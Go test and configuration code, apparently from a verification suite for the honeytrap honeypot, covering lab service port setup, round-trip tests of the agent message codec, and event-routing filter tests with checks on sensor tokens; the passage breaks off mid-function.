// grammars that produce command lists with their expected events, a mutator, a
// segmenter and the scenario runner.
package svc

import (
	"fmt"
	"image"
	"image/png"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"

	"verif/lab"
)

// Port table of the lab server: service key -> (type, port, protocols).
type PortSpec struct {
	Key   string // service key used in scripts
	Type  string // honeytrap service type
	Port  int
	TCP   bool
	UDP   bool
	Extra string // extra TOML lines for the service section
	// Services: this entry is not a service of its own but a second [[port]] that several
	// configured services share (the server then picks by the first bytes)
	Services []string
}

var Ports = []PortSpec{
	{Key: "ftp", Type: "ftp", Port: 21, TCP: true, Extra: "fs_base=\"{FS}\"\n"},
	{Key: "ssh-simulator", Type: "ssh-simulator", Port: 22, TCP: true, Extra: "credentials=[\"root:root\", \"admin:123456\"]\n"},
	{Key: "telnet", Type: "telnet", Port: 23, TCP: true},
	{Key: "smtp", Type: "smtp", Port: 25, TCP: true},
	{Key: "dns", Type: "dns", Port: 53, UDP: true},
	{Key: "tftp", Type: "tftp", Port: 69, UDP: true},
	{Key: "http", Type: "http", Port: 80, TCP: true},
	{Key: "ntp", Type: "ntp", Port: 123, UDP: true},
	{Key: "snmp", Type: "snmp", Port: 161, UDP: true},
	{Key: "ldap", Type: "ldap", Port: 389, TCP: true, Extra: "credentials=[\"root:root\", \"admin:admin\"]\n"},
	{Key: "https", Type: "https", Port: 443, TCP: true},
	{Key: "ipp", Type: "ipp", Port: 631, TCP: true},
	{Key: "ssh-auth", Type: "ssh-auth", Port: 2222, TCP: true},
	{Key: "docker", Type: "docker", Port: 2375, TCP: true},
	{Key: "adb", Type: "adb", Port: 5555, TCP: true},
	{Key: "vnc", Type: "vnc", Port: 5900, TCP: true, Extra: "image=\"{PNG}\"\nserver-name=\"lab\"\n"},
	{Key: "redis", Type: "redis", Port: 6379, TCP: true},
	{Key: "echo", Type: "echo", Port: 7, TCP: true, UDP: true},
	{Key: "cwmp", Type: "cwmp", Port: 7547, TCP: true},
	{Key: "ethereum", Type: "ethereum", Port: 8545, TCP: true},
	{Key: "eos", Type: "eos", Port: 8888, TCP: true},
	{Key: "elasticsearch", Type: "elasticsearch", Port: 9200, TCP: true},
	{Key: "memcached", Type: "memcached", Port: 11211, TCP: true, UDP: true},
	{Key: "counterstrike", Type: "counterstrike", Port: 27015, UDP: true},
	// a legal, less usual configuration shape: one port, several services choosing by payload
	{Key: "shared", Port: 8000, TCP: true, Services: []string{"cwmp", "docker", "http"}},
}

func PortOf(key string) *PortSpec {
	for i := range Ports {
		if Ports[i].Key == key {
			return &Ports[i]
		}
	}
	return nil
}

// Body builds the service and port sections for the given service keys (all when nil).
func Body(fsBase string, keys []string) string {
	want := map[string]bool{}
	for _, k := range keys {
		want[k] = true
	}
	var b strings.Builder
	for _, p := range Ports {
		if len(p.Services) > 0 {
			ok := true
			for _, k := range p.Services {
				if keys != nil && !want[k] {
					ok = false
				}
			}
			if !ok || (keys != nil && !want[p.Key]) {
				continue
			}
			var q []string
			for _, k := range p.Services {
				q = append(q, fmt.Sprintf("%q", k))
			}
			fmt.Fprintf(&b, "[[port]]\nport=\"tcp/%d\"\nservices=[%s]\n\n", p.Port, strings.Join(q, ", "))
			continue
		}
		if keys != nil && !want[p.Key] {
			continue
		}
		fmt.Fprintf(&b, "[service.%s]\ntype=%q\n", p.Key, p.Type)
		if p.Extra != "" {
			b.WriteString(strings.NewReplacer("{FS}", fsBase, "{PNG}", filepath.Join(fsBase, "screen.png")).Replace(p.Extra))
		}
		b.WriteString("\n")
		if p.TCP {
			fmt.Fprintf(&b, "[[port]]\nport=\"tcp/%d\"\nservices=[%q]\n\n", p.Port, p.Key)
		}
		if p.UDP {
			fmt.Fprintf(&b, "[[port]]\nport=\"udp/%d\"\nservices=[%q]\n\n", p.Port, p.Key)
		}
	}
	return b.String()
}

// Instance is one running lab server with services.
type Instance struct {
	Srv    *lab.Server
	Cap    *lab.Capture
	FsBase string
}

var (
	sharedOnce sync.Once
	shared     *Instance
	sharedErr  error
	connSerial int64
)

// StartInstance starts a server with the given services (nil = all).
func StartInstance(keys []string) (*Instance, error) {
	dir, err := lab.DataDir()
	if err != nil {
		return nil, err
	}
	fs := filepath.Join(dir, "ftpbase-"+lab.NextID())
	if err := os.MkdirAll(fs, 0755); err != nil {
		return nil, err
	}
	// a small screen image for the vnc service
	img := image.NewRGBA(image.Rect(0, 0, 16, 12))
	for i := range img.Pix {
		img.Pix[i] = byte(i * 7)
	}
	if f, err := os.Create(filepath.Join(fs, "screen.png")); err == nil {
		png.Encode(f, img)
		f.Close()
	}
	srv, cap, err := lab.StartWithCapture(Body(fs, keys), true)
	if err != nil {
		return nil, err
	}
	return &Instance{Srv: srv, Cap: cap, FsBase: fs}, nil
}

// Shared returns the process-wide instance with every service.
func Shared() (*Instance, error) {
	sharedOnce.Do(func() { shared, sharedErr = StartInstance(nil) })
	return shared, sharedErr
}

// NextClient hands out a process-unique client address (distinct IP and port).
func NextClient() (net.IP, int) {
	n := atomic.AddInt64(&connSerial, 1)
	return net.IPv4(10, byte(1+(n>>16)&0x7f), byte(n>>8), byte(n)), 20000 + int(n%40000)
}

// ServerIP is the local address of the lab server's ports (loopback so that FTP's
// passive sockets can really listen there).
var ServerIP = net.IPv4(127, 0, 0, 1)
