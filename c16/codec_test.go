package c16

import (
	"bytes"
	"encoding"
	"fmt"
	"net"
	"testing"

	"github.com/honeytrap/honeytrap/listener/agent"
	"pgregory.net/rapid"

	"verif/vlib"
)

const prop = "C16"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// codecCase is one message to be encoded and decoded again.
type codecCase struct {
	Type    string   `json:"type"` // hello eof tcp udp handshake response ping
	L       addr     `json:"l"`
	R       addr     `json:"r"`
	Len     int      `json:"payload_len"`
	Seed    int      `json:"payload_seed"`
	Version int      `json:"version,omitempty"`
	Strs    []string `json:"strs,omitempty"`
	Addrs   []addr   `json:"addrs,omitempty"`
}

func pattern(n, seed int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i*7+seed) ^ byte(i>>8)
	}
	return b
}

func asciiPattern(n, seed int) string {
	b := pattern(n, seed)
	for i := range b {
		b[i] = 0x20 + b[i]%95
	}
	return string(b)
}

func sameAddr(got net.Addr, want addr) error {
	if got == nil {
		return fmt.Errorf("address decoded as nil, encoded %s", want.key())
	}
	var ip net.IP
	var port int
	switch a := got.(type) {
	case *net.TCPAddr:
		if want.UDP {
			return fmt.Errorf("UDP address %s decoded as TCP address %s", want, a)
		}
		ip, port = a.IP, a.Port
	case *net.UDPAddr:
		if !want.UDP {
			return fmt.Errorf("TCP address %s decoded as UDP address %s", want, a)
		}
		ip, port = a.IP, a.Port
	default:
		return fmt.Errorf("address decoded as %T", got)
	}
	if !bytes.Equal(ip, want.IP) {
		return fmt.Errorf("IP %x decoded as %x", want.IP, []byte(ip))
	}
	if port != want.Port {
		return fmt.Errorf("port %d decoded as %d", want.Port, port)
	}
	if got.String() != want.String() {
		return fmt.Errorf("address %s decoded as %s", want, got)
	}
	return nil
}

func samePayload(got, want []byte) error {
	if bytes.Equal(got, want) {
		return nil
	}
	i := 0
	for i < len(got) && i < len(want) && got[i] == want[i] {
		i++
	}
	return fmt.Errorf("payload of %d bytes decoded as %d bytes, first difference at offset %d", len(want), len(got), i)
}

func sameRefAddr(got, want addr) error {
	if got.UDP != want.UDP || !bytes.Equal(got.IP, want.IP) || got.Port != want.Port {
		return fmt.Errorf("address %s on the wire is %s", want.key(), got.key())
	}
	return nil
}

// checkCodec encodes the message with the implementation, decodes it with the
// implementation and with the reference decoder, and feeds the reference encoding to the
// implementation's decoder; all must give back the encoded message.
func checkCodec(c codecCase) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("%s message: panic %v", c.Type, r)
		}
	}()
	payload := pattern(c.Len, c.Seed)
	l, r := c.L.netAddr(), c.R.netAddr()
	var m encoding.BinaryMarshaler
	var into encoding.BinaryUnmarshaler
	var verify func() error
	ref := frame{L: c.L, R: c.R, Payload: payload}
	two := func(gl, gr net.Addr) error {
		if err := sameAddr(gl, c.L); err != nil {
			return fmt.Errorf("local address: %v", err)
		}
		if err := sameAddr(gr, c.R); err != nil {
			return fmt.Errorf("remote address: %v", err)
		}
		return nil
	}
	switch c.Type {
	case "hello":
		ref.Type = tHello
		m = agent.Hello{Laddr: l, Raddr: r}
		o := &agent.Hello{}
		into, verify = o, func() error { return two(o.Laddr, o.Raddr) }
	case "eof":
		ref.Type = tEOF
		m = agent.EOF{Laddr: l, Raddr: r}
		o := &agent.EOF{}
		into, verify = o, func() error { return two(o.Laddr, o.Raddr) }
	case "tcp":
		ref.Type = tRWTCP
		m = agent.ReadWriteTCP{Laddr: l, Raddr: r, Payload: payload}
		o := &agent.ReadWriteTCP{}
		into, verify = o, func() error {
			if err := two(o.Laddr, o.Raddr); err != nil {
				return err
			}
			return samePayload(o.Payload, payload)
		}
	case "udp":
		ref.Type = tRWUDP
		m = agent.ReadWriteUDP{Laddr: l, Raddr: r, Payload: payload}
		o := &agent.ReadWriteUDP{}
		into, verify = o, func() error {
			if err := two(o.Laddr, o.Raddr); err != nil {
				return err
			}
			return samePayload(o.Payload, payload)
		}
	case "handshake":
		ref.Type = tHandshake
		ref.Version = c.Version
		ref.Strs = c.Strs
		m = agent.Handshake{ProtocolVersion: c.Version, Version: c.Strs[0], ShortCommitID: c.Strs[1], CommitID: c.Strs[2], Token: c.Strs[3]}
		o := &agent.Handshake{}
		into, verify = o, func() error {
			got := []string{o.Version, o.ShortCommitID, o.CommitID, o.Token}
			if o.ProtocolVersion != c.Version {
				return fmt.Errorf("protocol version %d decoded as %d", c.Version, o.ProtocolVersion)
			}
			for i := range got {
				if got[i] != c.Strs[i] {
					return fmt.Errorf("handshake string %d (%d bytes) decoded as %d bytes %.40q", i, len(c.Strs[i]), len(got[i]), got[i])
				}
			}
			return nil
		}
	case "response":
		ref.Type = tHSResp
		ref.Addrs = c.Addrs
		var as []net.Addr
		for _, a := range c.Addrs {
			as = append(as, a.netAddr())
		}
		m = agent.HandshakeResponse{Addresses: as}
		o := &agent.HandshakeResponse{}
		into, verify = o, func() error {
			if len(o.Addresses) != len(c.Addrs) {
				return fmt.Errorf("%d addresses decoded as %d", len(c.Addrs), len(o.Addresses))
			}
			for i := range c.Addrs {
				if err := sameAddr(o.Addresses[i], c.Addrs[i]); err != nil {
					return fmt.Errorf("address %d of %d: %v", i, len(c.Addrs), err)
				}
			}
			return nil
		}
	case "ping":
		ref.Type = tPing
		m = agent.Ping{}
		into, verify = &agent.Ping{}, func() error { return nil }
	default:
		return fmt.Errorf("infra: unknown message type %q", c.Type)
	}
	wire, err := m.MarshalBinary()
	if err != nil {
		return fmt.Errorf("%s message: marshal failed: %v", c.Type, err)
	}
	// 1. round trip through the implementation
	if err := into.UnmarshalBinary(wire); err != nil {
		return fmt.Errorf("%s message: unmarshal of its own encoding failed: %v", c.Type, err)
	}
	if err := verify(); err != nil {
		return fmt.Errorf("%s message, marshal -> unmarshal: %v", c.Type, err)
	}
	// 2. what the implementation encoded, read by an independent peer
	rf, err := decodeBody(ref.Type, wire)
	if err != nil {
		return fmt.Errorf("%s message: encoding is not readable by the reference decoder: %v", c.Type, err)
	}
	switch ref.Type {
	case tHello, tEOF, tRWTCP, tRWUDP:
		if err := sameRefAddr(rf.L, c.L); err != nil {
			return fmt.Errorf("%s message encoded: local %v", c.Type, err)
		}
		if err := sameRefAddr(rf.R, c.R); err != nil {
			return fmt.Errorf("%s message encoded: remote %v", c.Type, err)
		}
		if ref.Type == tRWTCP || ref.Type == tRWUDP {
			if err := samePayload(rf.Payload, payload); err != nil {
				return fmt.Errorf("%s message encoded: %v", c.Type, err)
			}
		}
	case tHSResp:
		if len(rf.Addrs) != len(c.Addrs) {
			return fmt.Errorf("response encoded %d addresses as %d", len(c.Addrs), len(rf.Addrs))
		}
		for i := range c.Addrs {
			if err := sameRefAddr(rf.Addrs[i], c.Addrs[i]); err != nil {
				return fmt.Errorf("response encoded: address %d %v", i, err)
			}
		}
	case tHandshake:
		if rf.Version != c.Version {
			return fmt.Errorf("handshake encoded version %d as %d", c.Version, rf.Version)
		}
		for i := range c.Strs {
			if rf.Strs[i] != c.Strs[i] {
				return fmt.Errorf("handshake encoded string %d differently", i)
			}
		}
	}
	// 3. what an independent peer encodes, read by the implementation
	if err := into.UnmarshalBinary(encodeBody(ref)); err != nil {
		return fmt.Errorf("%s message: unmarshal of the reference encoding failed: %v", c.Type, err)
	}
	if err := verify(); err != nil {
		return fmt.Errorf("%s message, peer encoding -> unmarshal: %v", c.Type, err)
	}
	return nil
}

func v4(a, b, c, d byte) []byte { return []byte{a, b, c, d} }

func v6(seed int) []byte {
	ip := make([]byte, 16)
	ip[0], ip[1] = 0x20, 0x01
	for i := 2; i < 16; i++ {
		ip[i] = byte(seed*(i+3) + i)
	}
	return ip
}

// TestCodecPorts enumerates every port for every address-bearing message type, both
// address families, both transport kinds.
func TestCodecPorts(t *testing.T) {
	r := vlib.Open(prop)
	var cc codecCase
	if vlib.ReplayCase("TestCodecPorts", &cc) {
		if err := checkCodec(cc); err != nil {
			r.Violation(t, "TestCodecPorts", cc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	r.Rule("codec ports: message types hello/eof/tcp/udp x {IPv4, IPv6, IPv4-in-IPv6} x {TCP, UDP address} x every port 0..65535 as local port (remote port = 65535-p) : marshal -> unmarshal, plus reference decoder / reference encoder cross-check; distinct by construction, all non-trivial")
	si, sn := r.Shard()
	var n int64
	fams := []struct {
		name string
		l, r []byte
	}{
		{"v4", v4(192, 0, 2, 7), v4(203, 0, 113, 200)},
		{"v6", v6(3), v6(9)},
		{"v4in6", net.IPv4(10, 1, 2, 3), net.IPv4(198, 51, 100, 1)},
	}
	for _, typ := range []string{"hello", "eof", "tcp", "udp"} {
		for _, fam := range fams {
			for _, udp := range []bool{false, true} {
				for p := si; p < 65536; p += sn {
					c := codecCase{Type: typ, L: addr{UDP: udp, IP: fam.l, Port: p}, R: addr{UDP: udp, IP: fam.r, Port: 65535 - p}, Len: p % 5, Seed: p}
					n++
					if err := checkCodec(c); err != nil {
						r.Bulk("codec/ports", n, n)
						r.Violation(t, "TestCodecPorts", c, err.Error())
						return
					}
				}
			}
		}
	}
	r.Bulk("codec/ports", n, n)
	r.Sample("codec/ports", codecCase{Type: "hello", L: addr{IP: v4(192, 0, 2, 7), Port: 65535}, R: addr{IP: v4(203, 0, 113, 200), Port: 0}})
	if sn == 1 || si == 0 {
		r.Exhaustive("ports 0..65535 for hello/eof/tcp/udp messages x IPv4/IPv6/IPv4-mapped x TCP/UDP addresses (ports split over the shards)")
	}
}

// TestCodecLengths enumerates every payload length 0..65000 for both data-carrying
// message types.
func TestCodecLengths(t *testing.T) {
	r := vlib.Open(prop)
	var cc codecCase
	if vlib.ReplayCase("TestCodecLengths", &cc) {
		if err := checkCodec(cc); err != nil {
			r.Violation(t, "TestCodecLengths", cc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	r.Rule("codec lengths: tcp and udp data messages with every payload length 0..65000 (IPv4 for even, IPv6 for odd lengths); distinct by construction, all non-trivial")
	si, sn := r.Shard()
	var n int64
	for _, typ := range []string{"tcp", "udp"} {
		for l := si; l <= 65000; l += sn {
			c := codecCase{Type: typ, Len: l, Seed: l}
			if l%2 == 0 {
				c.L, c.R = addr{UDP: typ == "udp", IP: v4(192, 0, 2, 1), Port: 80}, addr{UDP: typ == "udp", IP: v4(198, 51, 100, 9), Port: 40000}
			} else {
				c.L, c.R = addr{UDP: typ == "udp", IP: v6(1), Port: 443}, addr{UDP: typ == "udp", IP: v6(2), Port: 50000}
			}
			n++
			if err := checkCodec(c); err != nil {
				r.Bulk("codec/lengths", n, n)
				r.Violation(t, "TestCodecLengths", c, err.Error())
				return
			}
		}
	}
	r.Bulk("codec/lengths", n, n)
	r.Exhaustive("payload lengths 0..65000 for tcp and udp data messages (lengths split over the shards)")
}

func genAddr(rt *rapid.T, label string) addr {
	a := addr{UDP: rapid.Bool().Draw(rt, label+"udp")}
	switch rapid.IntRange(0, 2).Draw(rt, label+"fam") {
	case 0:
		a.IP = rapid.SliceOfN(rapid.Byte(), 4, 4).Draw(rt, label+"ip4")
	case 1:
		a.IP = rapid.SliceOfN(rapid.Byte(), 16, 16).Draw(rt, label+"ip6")
	default:
		a.IP = net.IP(rapid.SliceOfN(rapid.Byte(), 4, 4).Draw(rt, label+"ip4m")).To16()
	}
	a.Port = rapid.OneOf(rapid.IntRange(0, 65535), rapid.SampledFrom([]int{0, 1, 255, 256, 1023, 1024, 32767, 32768, 65534, 65535})).Draw(rt, label+"port")
	return a
}

func TestCodecSampled(t *testing.T) {
	r := vlib.Open(prop)
	var cc codecCase
	if vlib.ReplayCase("TestCodecSampled", &cc) {
		if err := checkCodec(cc); err != nil {
			r.Violation(t, "TestCodecSampled", cc, err.Error())
		}
		return
	}
	r.Rule("codec sampled: all seven message types, random IPv4/IPv6 addresses and ports, payload lengths 0..65000 with boundary values, handshake strings 0..6000 bytes, handshake responses with 0..255 addresses; non-trivial = message carries an address or a string")
	r.Rapid(t, "TestCodecSampled", r.Pick(6000, 80000), func(rt *rapid.T) {
		c := codecCase{Type: rapid.SampledFrom([]string{"hello", "eof", "tcp", "udp", "tcp", "udp", "handshake", "response", "response", "ping"}).Draw(rt, "type")}
		switch c.Type {
		case "hello", "eof", "tcp", "udp":
			c.L, c.R = genAddr(rt, "l"), genAddr(rt, "r")
			if c.Type == "tcp" || c.Type == "udp" {
				c.Len = rapid.OneOf(rapid.IntRange(0, 300), rapid.IntRange(0, 65000), rapid.SampledFrom([]int{0, 1, 4000, 4051, 4052, 4053, 4054, 4055, 4075, 4076, 4077, 4078, 4079, 4095, 4096, 4097, 8192, 32767, 32768, 64999, 65000})).Draw(rt, "len")
				c.Seed = rapid.IntRange(0, 255).Draw(rt, "seed")
			}
		case "handshake":
			c.Version = rapid.IntRange(0, 65535).Draw(rt, "version")
			for i := 0; i < 4; i++ {
				n := rapid.OneOf(rapid.IntRange(0, 40), rapid.IntRange(0, 300), rapid.SampledFrom([]int{0, 20, 4089, 4090, 4091, 4092, 4093, 4096, 6000})).Draw(rt, "slen")
				c.Strs = append(c.Strs, asciiPattern(n, rapid.IntRange(0, 255).Draw(rt, "sseed")))
			}
		case "response":
			n := rapid.OneOf(rapid.IntRange(0, 8), rapid.IntRange(0, 255), rapid.SampledFrom([]int{0, 1, 194, 195, 196, 255})).Draw(rt, "naddr")
			for i := 0; i < n; i++ {
				c.Addrs = append(c.Addrs, genAddr(rt, "a"))
			}
		}
		fp := ""
		if c.Type != "ping" {
			fp = vlib.JSON(c)
		}
		r.Case("codec/sampled/"+c.Type, fp, func() interface{} { return c })
		if err := checkCodec(c); err != nil {
			r.Fail(rt, "TestCodecSampled", c, "%v", err)
		}
	})
}
