package c06

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C06"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type filterSpec struct {
	Channels   []string `json:"channels"`
	Categories []string `json:"categories"` // nil = absent
	Services   []string `json:"services"`   // nil = absent
}

type evSpec struct {
	Category string `json:"category"` // "<missing>", "<int>" or a string value
	Service  string `json:"service"`
	// Token says what the event holds under the key "token" when it is put on the bus
	// (that key is the one the pipeline itself writes): "" = no such key (an ordinary
	// event), "<empty>" = the empty string, "<int>" / "<nil>" / "<bool>" / "<bytes>" =
	// a non-string value, "<sensor>" = the sensor's own token, "<sensor-cut>" = a proper
	// prefix of it, anything else = that string.
	Token string `json:"token,omitempty"`
}

type routeCase struct {
	Channels []string     `json:"channels"`
	Filters  []filterSpec `json:"filters"`
	Events   []evSpec     `json:"events"`
}

var exprAlphabet = []string{"a", "b", "^a$", "a|b", ".", "^$", "ssh", "^s", "b$", "[ab]+", "^(a|ssh)$", "x"}
var valueAlphabet = []string{"a", "b", "ab", "ba", "ssh", "", "x", "A", "<missing>", "<int>"}

// tokenAlphabet: values an event may already hold under "token" when it reaches the bus
// (relayed from an agent or peer, copied from a peer-controlled key/value map, or set by a
// service through event.Custom). See evSpec.Token.
var tokenAlphabet = []string{"<empty>", "<int>", "<nil>", "<bool>", "<bytes>", "<sensor>", "<sensor-cut>", "peer-token", "a", "00000000-0000-0000-0000-000000000000"}

// genToken: most events are ordinary (no token key); about a third carry one.
func genToken(t *rapid.T) string {
	if rapid.IntRange(0, 2).Draw(t, "etokset") != 0 {
		return ""
	}
	return rapid.SampledFrom(tokenAlphabet).Draw(t, "etok")
}

func genEvent(t *rapid.T) evSpec {
	return evSpec{
		Category: rapid.SampledFrom(valueAlphabet).Draw(t, "ecat"),
		Service:  rapid.SampledFrom(valueAlphabet).Draw(t, "esvc"),
		Token:    genToken(t),
	}
}

// presetTokens counts the events that carry a "token" key of their own.
func presetTokens(evs []evSpec) (n int64) {
	for _, e := range evs {
		if e.Token != "" {
			n++
		}
	}
	return n
}

// tokenOK is the statement's clause "delivered events carry the sensor token": the value
// under "token" is the sensor token itself (a string), whatever the event held before.
func tokenOK(ev lab.Ev, tok string) error {
	v, ok := ev.M["token"]
	if !ok {
		return fmt.Errorf("carries no token, sensor token is %q", tok)
	}
	s, ok := v.(string)
	if !ok {
		return fmt.Errorf("carries a non-string token %T(%v), sensor token is %q", v, v, tok)
	}
	if s != tok {
		return fmt.Errorf("carries token %q, sensor token is %q", s, tok)
	}
	return nil
}

func tomlList(xs []string) string {
	q := make([]string, len(xs))
	for i, x := range xs {
		q[i] = fmt.Sprintf("%q", x)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

func (c routeCase) toml(id string, channels []string, filters []filterSpec) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	fmt.Fprintf(&b, "[service.stub]\ntype=\"verif-plain\"\nid=%q\n\n", id+"-stub")
	for _, ch := range channels {
		fmt.Fprintf(&b, "[channel.%s]\ntype=\"verif-capture\"\nid=%q\n\n", ch, id+"-"+ch)
	}
	for _, f := range filters {
		fmt.Fprintf(&b, "[[filter]]\nchannel=%s\n", tomlList(f.Channels))
		if f.Categories != nil {
			fmt.Fprintf(&b, "categories=%s\n", tomlList(f.Categories))
		}
		if f.Services != nil {
			fmt.Fprintf(&b, "services=%s\n", tomlList(f.Services))
		}
		b.WriteString("\n")
	}
	return b.String()
}

// admits is the reference filter: (definitely, possibly). A missing or non-string
// field is ambiguous against expressions that match the empty string (the statement
// does not say whether such an expression matches an absent value), so the model
// answers with a range there.
func admits(exprs []string, val string) (lo, hi bool) {
	if exprs == nil {
		return true, true
	}
	absent := val == "<missing>" || val == "<int>"
	for _, x := range exprs {
		rx := regexp.MustCompile(x)
		if absent {
			if rx.MatchString("") {
				hi = true
			}
		} else if rx.MatchString(val) {
			return true, true
		}
	}
	return lo, hi
}

func mkEvent(i int, e evSpec) event.Event {
	opts := []event.Option{event.Custom("c06.n", i), event.Sensor("c06")}
	switch e.Category {
	case "<missing>":
	case "<int>":
		opts = append(opts, event.Custom("category", 7))
	default:
		opts = append(opts, event.Category(e.Category))
	}
	switch e.Service {
	case "<missing>":
	case "<int>":
		opts = append(opts, event.Custom("service", 7))
	default:
		opts = append(opts, event.Service(e.Service))
	}
	switch e.Token {
	case "":
	case "<empty>":
		opts = append(opts, event.Custom("token", ""))
	case "<int>":
		opts = append(opts, event.Custom("token", 12345))
	case "<nil>":
		opts = append(opts, event.Custom("token", nil))
	case "<bool>":
		opts = append(opts, event.Custom("token", false))
	case "<bytes>":
		opts = append(opts, event.Custom("token", []byte("peer-token")))
	case "<sensor>":
		opts = append(opts, event.Token(token()))
	case "<sensor-cut>":
		if tok := token(); len(tok) > 0 {
			opts = append(opts, event.Token(tok[:len(tok)-1]))
		}
	default:
		opts = append(opts, event.Token(e.Token))
	}
	return event.New(opts...)
}

type delivery struct{ lo, hi int }

// expect computes per channel, per event index, how many copies must arrive.
func expect(channels []string, filters []filterSpec, events []evSpec) map[string][]delivery {
	exists := map[string]bool{}
	for _, c := range channels {
		exists[c] = true
	}
	out := map[string][]delivery{}
	for _, c := range channels {
		out[c] = make([]delivery, len(events))
	}
	for _, f := range filters {
		for _, name := range f.Channels {
			if !exists[name] {
				continue
			}
			for i, e := range events {
				clo, chi := admits(f.Categories, e.Category)
				slo, shi := admits(f.Services, e.Service)
				if clo && slo {
					out[name][i].lo++
				}
				if chi && shi {
					out[name][i].hi++
				}
			}
		}
	}
	return out
}

func token() string {
	dir, _ := lab.DataDir()
	b, _ := os.ReadFile(filepath.Join(dir, "token"))
	return string(b)
}

// runConfig starts a real server with the configuration, sends the events through the
// bus the stub service was given, and returns per channel the sequence numbers received.
func runConfig(c routeCase, channels []string, filters []filterSpec) (map[string][]int, map[string][]lab.Ev, error) {
	id := lab.NextID()
	srv, err := lab.Start(id, c.toml(id, channels, filters), true)
	if err != nil {
		return nil, nil, fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	stub := lab.GetStub(id + "-stub")
	if stub == nil || stub.Bus() == nil {
		return nil, nil, fmt.Errorf("infra: stub service was not given a channel")
	}
	for i, e := range c.Events {
		stub.Bus().Send(mkEvent(i, e))
	}
	got := map[string][]int{}
	raw := map[string][]lab.Ev{}
	ids := []string{id, id + "-stub"}
	for _, ch := range channels {
		cap := lab.GetCapture(id + "-" + ch)
		ids = append(ids, id+"-"+ch)
		if cap == nil {
			return nil, nil, fmt.Errorf("infra: capture channel %s missing", ch)
		}
		got[ch] = []int{}
		for _, ev := range cap.Events() {
			if ev.Str("sensor") != "c06" {
				continue // server's own events (heartbeat)
			}
			n, _ := ev.M["c06.n"].(int)
			got[ch] = append(got[ch], n)
			raw[ch] = append(raw[ch], ev)
		}
	}
	lab.Forget(ids...)
	return got, raw, nil
}

func checkRoute(c routeCase) error {
	got, raw, err := runConfig(c, c.Channels, c.Filters)
	if err != nil {
		return err
	}
	exp := expect(c.Channels, c.Filters, c.Events)
	tok := token()
	if len(tok) == 0 {
		return fmt.Errorf("infra: no token file")
	}
	for _, ch := range c.Channels {
		// order: non-decreasing sequence numbers; multiplicity within [lo,hi]
		cnt := make([]int, len(c.Events))
		last := -1
		for _, n := range got[ch] {
			if n < last {
				return fmt.Errorf("channel %s received event %d after event %d (sending order violated): %v", ch, n, last, got[ch])
			}
			last = n
			if n < 0 || n >= len(cnt) {
				return fmt.Errorf("channel %s received an unknown event %d", ch, n)
			}
			cnt[n]++
		}
		for i := range cnt {
			if cnt[i] < exp[ch][i].lo || cnt[i] > exp[ch][i].hi {
				return fmt.Errorf("channel %s received event %d (category=%q service=%q) %d times, reference model says %d..%d; filters=%s", ch, i, c.Events[i].Category, c.Events[i].Service, cnt[i], exp[ch][i].lo, exp[ch][i].hi, vlib.JSON(c.Filters))
			}
		}
		for _, ev := range raw[ch] {
			if err := tokenOK(ev, tok); err != nil {
				n, _ := ev.M["c06.n"].(int)
				was := "no token key"
				if n >= 0 && n < len(c.Events) && c.Events[n].Token != "" {
					was = "token=" + c.Events[n].Token
				}
				return fmt.Errorf("channel %s: delivered event %d (put on the bus with %s) %v", ch, n, was, err)
			}
			if ev.SerErr != "" {
				return fmt.Errorf("delivered event does not serialise: %s", ev.SerErr)
			}
		}
	}
	return nil
}

// metamorphic: what channel X receives is unchanged when every other channel and every
// filter that does not name X is removed.
func checkIndependence(c routeCase, ch string) error {
	full, _, err := runConfig(c, c.Channels, c.Filters)
	if err != nil {
		return err
	}
	var fs []filterSpec
	for _, f := range c.Filters {
		var names []string
		for _, n := range f.Channels {
			if n == ch {
				names = append(names, n)
			}
		}
		if len(names) > 0 {
			fs = append(fs, filterSpec{names, f.Categories, f.Services})
		}
	}
	alone, _, err := runConfig(c, []string{ch}, fs)
	if err != nil {
		return err
	}
	if fmt.Sprint(full[ch]) != fmt.Sprint(alone[ch]) {
		return fmt.Errorf("channel %s receives %v in the full configuration but %v when configured alone", ch, full[ch], alone[ch])
	}
	return nil
}

func genExprs(t *rapid.T, label string) []string {
	if rapid.IntRange(0, 3).Draw(t, label+"absent") == 0 {
		return nil
	}
	return rapid.SliceOfN(rapid.SampledFrom(exprAlphabet), 1, 3).Draw(t, label)
}

func genCase(t *rapid.T) routeCase {
	all := []string{"c1", "c2", "c3"}
	nch := rapid.IntRange(1, 3).Draw(t, "nch")
	c := routeCase{Channels: all[:nch]}
	nf := rapid.IntRange(0, 4).Draw(t, "nf")
	for i := 0; i < nf; i++ {
		names := rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"c1", "c2", "c3", "ghost"}), 0, 3, rapid.ID[string]).Draw(t, "names")
		c.Filters = append(c.Filters, filterSpec{Channels: names, Categories: genExprs(t, "cat"), Services: genExprs(t, "svc")})
	}
	ne := rapid.IntRange(1, 20).Draw(t, "ne")
	for i := 0; i < ne; i++ {
		c.Events = append(c.Events, genEvent(t))
	}
	return c
}

// nontrivial: >=2 subscriptions and >=1 event admitted by one and rejected by another
func nontrivial(c routeCase) bool {
	exists := map[string]bool{}
	for _, ch := range c.Channels {
		exists[ch] = true
	}
	type sub struct{ f filterSpec }
	var subs []filterSpec
	for _, f := range c.Filters {
		for _, n := range f.Channels {
			if exists[n] {
				subs = append(subs, f)
			}
		}
	}
	if len(subs) < 2 {
		return false
	}
	for _, e := range c.Events {
		yes, no := false, false
		for _, f := range subs {
			clo, chi := admits(f.Categories, e.Category)
			slo, shi := admits(f.Services, e.Service)
			if clo && slo {
				yes = true
			}
